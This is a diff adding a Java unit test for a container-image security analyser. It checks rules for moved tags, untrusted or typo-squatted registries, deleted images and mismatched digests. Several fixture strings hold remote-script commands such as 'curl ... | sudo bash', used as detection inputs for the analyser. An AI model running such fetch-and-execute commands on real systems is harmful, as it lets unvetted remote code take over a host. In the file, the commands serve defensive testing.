@@ -1,0 +1,253 @@
+package org.ephemera.analyze.image;
+
+import static org.assertj.core.api.Assertions.assertThat;
+import static org.ephemera.analyze.image.Stage.ECR;
+import static org.ephemera.analyze.image.Stage.digest;
+
+import java.nio.file.Path;
+import java.time.Duration;
+import java.time.Instant;
+import java.util.ArrayList;
+import java.util.List;
+import java.util.Set;
+import java.util.TreeSet;
+import java.util.stream.Collectors;
+import java.util.stream.Stream;
+import org.ephemera.analyze.model.Finding;
+import org.ephemera.analyze.model.Rule;
+import org.ephemera.analyze.model.RuleBook;
+import org.ephemera.analyze.testing.FixtureAnswer;
+import org.ephemera.analyze.testing.FixtureCalls;
+import org.ephemera.evidence.Outcome;
+import org.ephemera.testing.InMemory;
+import org.junit.jupiter.api.Test;
+import org.junit.jupiter.api.io.TempDir;
+import org.junit.jupiter.params.ParameterizedTest;
+import org.junit.jupiter.params.provider.MethodSource;
+
+class ImageRulesTest {
+    private static final String APP = ECR + "shop/app:1.4";
+    private static final String A = digest("a");
+    private static final String B = digest("b");
+    private static final Instant RECENT = Stage.NOW.minus(Duration.ofMinutes(20));
+    private static final Instant LONG_AGO = Stage.NOW.minus(Duration.ofDays(40));
+
+    @TempDir(factory = InMemory.class)
+    Path folder;
+
+    /** What there is, and the findings beside IMG-002 that must come of it: no others. */
+    record Case(String name, Stage stage, List<String> expected) {
+        @Override
+        public String toString() {
+            return name;
+        }
+    }
+
+    private static Case found(String name, String expected, Stage stage) {
+        return new Case(name, stage, List.of(expected.split(", ", -1)));
+    }
+
+    private static Case silent(String name, Stage stage) {
+        return new Case(name, stage, List.of());
+    }
+
+    private static Stage runs(String image) {
+        return new Stage().task("service:web", image, A);
+    }
+
+    private static Stage registry(FixtureAnswer... answers) {
+        return runs(APP).image(APP, A, answers);
+    }
+
+    private static Stage config(String json) {
+        String named = digest(json);
+        return registry(Stage.tag("1.4", A, LONG_AGO), Stage.config(named, json));
+    }
+
+    private static Stage indexes(String ran, String now) {
+        return runs(APP)
+                .image(
+                        APP,
+                        digest(ran),
+                        Stage.tag("1.4", digest(now), LONG_AGO),
+                        Stage.manifest(digest(ran), ran),
+                        Stage.manifest(digest(now), now));
+    }
+
+    static Stream<Case> cases() {
+        String single = Stage.single(digest("config"));
+        String index = Stage.index(true, digest(single), digest("arm"));
+        return Stream.of(
+                found("no tag", "IMG-001 low", runs(ECR + "shop/app")),
+                found("the latest", "IMG-001 low", runs(ECR + "shop/app:latest")),
+                found("the latest of a public registry", "IMG-001 medium", runs("nginx")),
+                silent("a tag that begins with latest", runs(ECR + "shop/app:latest-2026.11")),
+                silent("the latest, by digest", runs(ECR + "shop/app:latest@" + A)),
+                silent("a registry with a port and no tag is read right", runs(ECR + "shop/app:1.4")),
+                found("the tag was moved", "IMG-003 high", registry(Stage.tag("1.4", B, RECENT))),
+                found("the tag was moved long ago", "IMG-003 low", registry(Stage.tag("1.4", B, LONG_AGO))),
+                silent("the tag leads to what runs", registry(Stage.tag("1.4", A, RECENT))),
+                silent(
+                        "the tag leads to the index of what runs",
+                        runs(APP)
+                                .image(
+                                        APP,
+                                        digest(single),
+                                        Stage.tag("1.4", digest(index), RECENT),
+                                        Stage.manifest(digest(single), single),
+                                        Stage.manifest(digest(index), index))),
+                silent(
+                        "the tag leads to a manifest of the index that runs",
+                        runs(APP)
+                                .image(
+                                        APP,
+                                        digest(index),
+                                        Stage.tag("1.4", digest(single), RECENT),
+                                        Stage.manifest(digest(index), index))),
+                found(
+                        "one replica of three differs",
+                        "IMG-004 high",
+                        runs(APP).task("service:web", APP, A).task("service:web", APP, B)),
+                silent("replicas are alike", runs(APP).task("service:web", APP, A)),
+                silent("two releases of a deployment", runs(APP).task("service:web", ECR + "shop/app:1.5", B)),
+                silent(
+                        "two runs of a family",
+                        new Stage().task("family:job", APP, A).task("family:job", APP, B)),
+                found(
+                        "not what the service is pinned to",
+                        "IMG-004 high",
+                        runs(APP).pinned(APP, B)),
+                silent("what the service is pinned to", runs(APP).pinned(APP, B).pinned(APP, A)),
+                found(
+                        "what ran is deleted",
+                        "IMG-005 high",
+                        runs(APP).image(APP, A, Stage.tag("1.4", A, LONG_AGO), Stage.notFound(A))),
+                found(
+                        "what ran is expired",
+                        "IMG-005 high",
+                        runs(APP).image(APP, A, new Outcome.Expired("ECR has it no more"))),
+                silent(
+                        "another image is deleted",
+                        runs(APP).image(APP, A, Stage.tag("1.4", A, LONG_AGO), Stage.notFound(B))),
+                found("somebody's image at Docker Hub", "IMG-006 high", runs("user/secret:user")),
+                found("an impostor", "IMG-006 high", runs("docker.io/x/kube-proxy:v1.34")),
+                silent("an official image", runs("docker.io/library/redis:8.2")),
+                silent("a vendor's", runs("public.ecr.aws/aws-observability/aws-for-fluent-bit:stable")),
+                found("somebody's at quay.io", "IMG-006 medium", runs("quay.io/somebody/app:1")),
+                found(
+                        "of another account",
+                        "IMG-006 medium",
+                        runs("999988887777.dkr.ecr.eu-central-1.amazonaws.com/shop/app:1")),
+                found("a registry that nobody knows", "IMG-006 low", runs("harbor.shop.example/shop/app:1")),
+                found(
+                        "somebody's image that was used for weeks",
+                        "IMG-006 low",
+                        runs("grafana/agent:1").earlier(LONG_AGO, "grafana/agent:0.9")),
+                found(
+                        "somebody's image that was registered twice today",
+                        "IMG-006 high",
+                        runs("user/secret:user").earlier(RECENT, "user/secret:user")),
+                found(
+                        "almost an own name",
+                        "IMG-006 high",
+                        runs("quay.io/shop/chekout:1").earlier(LONG_AGO, ECR + "shop/checkout:1")),
+                silent("two own names that are alike", runs(APP).task("service:web", ECR + "shop/apq:1.4", B)),
+                found(
+                        "a layer from a script",
+                        "IMG-007 medium",
+                        config(
+                                "{\"history\":[{\"created_by\":\"RUN curl -fsSL 'http://x.example/i?a=1&b=2' | sudo bash -s\"}]}")),
+                silent(
+                        "a download that is unpacked",
+                        config(
+                                "{\"history\":[{\"created_by\":\"RUN curl -fsSL http://x.example/a.tgz | tar xz; sh a.sh\"}]}")),
+                silent(
+                        "a download beside a pipe into a shell",
+                        config("{\"history\":[{\"created_by\":\"RUN curl -o a http://x && cat b | sh\"}]}")),
+                found("from the future", "IMG-007 medium", config("{\"created\":\"2027-01-01T00:00:00Z\"}")),
+                found("a reproducible build", "IMG-007 info", config("{\"created\":\"1970-01-01T00:00:00Z\"}")),
+                silent("an ordinary date", config("{\"created\":\"2026-11-03T08:12:41Z\"}")),
+                found(
+                        "attested once, and no more",
+                        "IMG-003 low, IMG-008 medium",
+                        indexes(Stage.index(true, A), Stage.index(false, B))),
+                found("attested before and after", "IMG-003 low", indexes(Stage.index(true, A), Stage.index(true, B))),
+                found(
+                        "other bytes than the digest",
+                        "IMG-010 critical",
+                        registry(Stage.tag("1.4", A, LONG_AGO), Stage.manifest(A, single))),
+                silent(
+                        "the bytes of the digest",
+                        runs(APP)
+                                .image(
+                                        APP,
+                                        digest(single),
+                                        Stage.tag("1.4", digest(single), LONG_AGO),
+                                        Stage.manifest(digest(single), single))),
+                found(
+                        "another config than the digest",
+                        "IMG-010 critical",
+                        registry(Stage.tag("1.4", A, LONG_AGO), Stage.config(A, "{\"os\":\"linux\"}"))));
+    }
+
+    @ParameterizedTest
+    @MethodSource("cases")
+    void judges(Case one) {
+        List<Finding> findings = new ArrayList<>(one.stage().judge(folder).findings());
+        findings.removeIf(finding -> finding.rule().id().equals("IMG-002"));
+        assertThat(Stage.shown(findings)).isEqualTo(one.expected());
+    }
+
+    @Test
+    void aNameWithoutADigestIsTold() {
+        assertThat(Stage.shown(runs(APP).judge(folder.resolve("a")).findings())).containsExactly("IMG-002 info");
+        assertThat(runs(APP + "@" + A).judge(folder.resolve("b")).findings()).isEmpty();
+    }
+
+    @Test
+    void whatRanUnknownIsAGap() {
+        Stage stage = new Stage().task("service:web", APP, "");
+        assertThat(stage.judge(folder.resolve("a")).gaps().toString()).contains("IMG-009", "nobody can prove");
+        assertThat(runs(APP).judge(folder.resolve("b")).gaps().toString()).doesNotContain("IMG-009");
+    }
+
+    @Test
+    void whoPushedIsNamed() {
+        Stage stage = registry(Stage.tag("1.4", B, RECENT))
+                .call(FixtureCalls.trail(
+                        "e-1",
+                        RECENT,
+                        "arn:aws:iam::111122223333:user/new",
+                        "ecr.amazonaws.com",
+                        "PutImage",
+                        "{\"repositoryName\":\"shop/app\",\"imageTag\":\"1.4\"}"));
+        Finding moved = stage.judge(folder).findings().getFirst();
+        assertThat(moved.because()).contains("by arn:aws:iam::111122223333:user/new", B, A);
+        assertThat(moved.evidence()).hasSize(3);
+        assertThat(moved.subject()).isEqualTo("app");
+    }
+
+    @Test
+    void whatCannotBeJudgedIsAGap() {
+        String gaps = runs(APP)
+                .image(APP, A, new Outcome.Denied("ecr:BatchGetImage", "ecr:BatchGetImage is missing"))
+                .judge(folder)
+                .gaps()
+                .toString();
+        assertThat(gaps).contains("IMG-003", "ecr:BatchGetImage is missing", "IMG-007", "IMG-008", "IMG-010");
+    }
+
+    @Test
+    void everyRuleHasAPositiveCase() {
+        Set<String> seen = cases().flatMap(one -> one.expected().stream())
+                .map(expected -> expected.substring(0, 7))
+                .collect(Collectors.toCollection(TreeSet::new));
+        // Told of each name, and a gap: they have tests of their own.
+        seen.addAll(List.of("IMG-002", "IMG-009"));
+        assertThat(seen)
+                .isEqualTo(RuleBook.standard().all().stream()
+                        .map(Rule::id)
+                        .filter(id -> id.startsWith("IMG-"))
+                        .collect(Collectors.toCollection(TreeSet::new)));
+    }
+}
